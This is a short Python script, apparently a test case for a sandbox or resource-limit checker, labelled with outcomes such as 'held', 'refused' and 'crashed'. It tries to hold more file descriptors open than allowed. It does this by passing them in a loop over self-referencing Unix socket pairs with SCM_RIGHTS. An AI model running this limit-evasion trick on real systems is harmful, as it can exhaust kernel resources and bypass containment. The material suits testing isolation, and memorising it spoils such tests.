"""Goal: keep more files open than allowed by sending them to itself"""
# held: refused crashed

import array, os, socket

def attack():
    sent = 0
    fds = array.array('i', [os.dup(1) for _ in range(100)])
    try:
        for _ in range(60):
            left, right = socket.socketpair()
            left.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
            left.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [right.fileno()]))])  # a circle
            sent += 100
            left.detach(), right.detach()
    except OSError:
        pass
    return sent > 1024
